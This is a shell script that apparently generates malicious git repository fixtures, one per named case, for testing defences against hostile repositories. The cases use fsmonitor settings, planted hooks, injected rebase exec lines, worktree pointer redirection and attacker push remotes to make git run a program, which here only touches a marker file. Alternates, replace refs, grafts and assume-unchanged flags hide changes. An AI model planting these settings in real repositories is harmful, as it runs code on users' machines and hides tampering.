# Makes a repository, or a part of one, through which git on the host runs a program or hides a
# change. $1 names the attack.
evil=$PWD/evil.sh
printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
# Makes a repository with one commit in the folder $1.
made() { git init -q "$1" && (cd "$1" && echo a >a && git add a && git commit -qm one); }
# Names the folder $1 in the index as a submodule.
named() { git update-index --add --cacheinfo "160000,$(git -C "$1" rev-parse HEAD),$1"; }
# Makes a git directory with settings of the attacker in the folder $1.
settings() {
    mkdir -p "$1/refs" "$1/objects" && echo 'ref: refs/heads/main' >"$1/HEAD"
    printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = %s\n' "$evil" >"$1/config"
}
# Makes a worktree deep/wt of the repository $1 with settings of the attacker. Its git directory is
# $2.
worktree() {
    git -C "$1" worktree add -q "$PWD/deep/wt" && settings deep/settings && echo "$PWD/deep/settings" >"$2/commondir"
}
# Stops a rebase in the repository $1 before a command of the attacker.
rebase() (
    cd "$1" && echo b >b && git add b && git commit -qm two
    GIT_SEQUENCE_EDITOR='sed -i 1s/pick/edit/' git rebase -q -i HEAD~1 2>/dev/null
    echo "exec $evil" >>.git/rebase-merge/git-rebase-todo
)
# Hides a change in the repository $1, and its history.
hide() (
    cd "$1" && head=$(git rev-parse HEAD)
    git update-index --assume-unchanged a && echo evil >a
    echo "$PWD" >.git/objects/info/alternates
    mkdir -p .git/refs/replace && echo "$head" >".git/refs/replace/$head" && echo "$head" >.git/info/grafts
)
hook() { mkdir -p "$1/hooks" && cp evil.sh "$1/hooks/post-checkout"; }
# Makes a repository of the attacker, deep/ours.git, to which the user may push.
ours() { git init -q --bare deep/ours.git && cp "$evil" deep/ours.git/hooks/post-update; }
case $1 in
root-remotes) ours && made . && mkdir .git/remotes && printf 'URL: deep/ours.git\nPush: HEAD:refs/heads/main\n' >.git/remotes/origin ;;
root-branches) ours && made . && mkdir -p .git/branches && echo "$PWD/deep/ours.git" >.git/branches/origin ;;
root-url)
    ours && made . && git remote add origin ./deep/ours.git
    branch=$(git branch --show-current) && git config "branch.$branch.remote" origin && git config "branch.$branch.merge" "refs/heads/$branch"
    ;;
root-file-url) ours && made . && git remote add origin "file://$PWD/deep/ours.git" ;;
root-push-url) ours && made . && git remote add origin https://host.invalid/x && git config remote.origin.pushurl deep/ours.git ;;
root-branch)
    ours && made . && branch=$(git branch --show-current)
    git config "branch.$branch.remote" "$PWD/deep/ours.git" && git config "branch.$branch.merge" "refs/heads/$branch"
    ;;
home-url) mkdir -p ~/.cache && cd ~/.cache && ours && cd - && made . && git remote add origin ~/.cache/deep/ours.git ;;
submodule-remotes) ours && made deep/sub && named deep/sub && mkdir deep/sub/.git/remotes && echo 'URL: ../ours.git' >deep/sub/.git/remotes/origin ;;
sub-remotes) ours && mkdir sub/.git/remotes && echo 'URL: ../deep/ours.git' >sub/.git/remotes/origin ;;
sub-url) ours && git -C sub remote add origin ../deep/ours.git ;;
root-worktree) made . && worktree . .git/worktrees/wt ;;
root-worktree-pointer) made . && worktree . .git/worktrees/wt && echo ../.. >.git/worktrees/wt/commondir &&
    echo "gitdir: $PWD/deep/settings" >deep/wt/.git ;;
root-module)
    made deep/library && made .
    printf '[submodule "sub"]\n\tpath = sub\n\turl = ./deep/library\n' >.gitmodules && git add .gitmodules
    git update-index --add --cacheinfo "160000,$(git -C deep/library rev-parse HEAD),sub" && git commit -qm two
    git clone -q --bare deep/library .git/modules/sub && git -C .git/modules/sub config core.bare false
    git -C .git/modules/sub config core.worktree ../../../sub
    hook .git/modules/sub
    ;;
root-entry) made . && git update-index --add --cacheinfo "100644,$(git rev-parse HEAD:a),.env" ;;
root-submodule) made . && made sub && printf '[core]\n\tfsmonitor = %s\n' "$evil" >>sub/.git/config && named sub ;;
root-rebase) made . && rebase . ;;
root-hidden) made . && hide . ;;
submodule-worktree) made deep/sub && named deep/sub && worktree deep/sub deep/sub/.git/worktrees/wt ;;
submodule-rebase) made deep/sub && named deep/sub && rebase deep/sub ;;
submodule-hidden) made deep/sub && named deep/sub && hide deep/sub ;;
submodule-module) made deep/sub && named deep/sub && git init -q --bare deep/sub/.git/modules/m && hook deep/sub/.git/modules/m ;;
excluded) echo '*' >>.git/modules/sub/info/exclude && echo evil >sub/GNUmakefile ;;
worktree-filter) git worktree add -q deep/wt && cp evil.sh deep/wt/tools/clean ;;
worktree-hook) git worktree add -q deep/wt && cp evil.sh deep/wt/githooks/pre-commit ;;
sub-worktree) worktree sub sub/.git/worktrees/wt ;;
clone-submodule)
    git init -q sub && git -C sub commit -q --allow-empty -m one
    made sub/deeper && printf '[core]\n\tfsmonitor = %s\n' "$evil" >>sub/deeper/.git/config
    cd sub && named deeper
    ;;
*) exit 1 ;;
esac
echo done
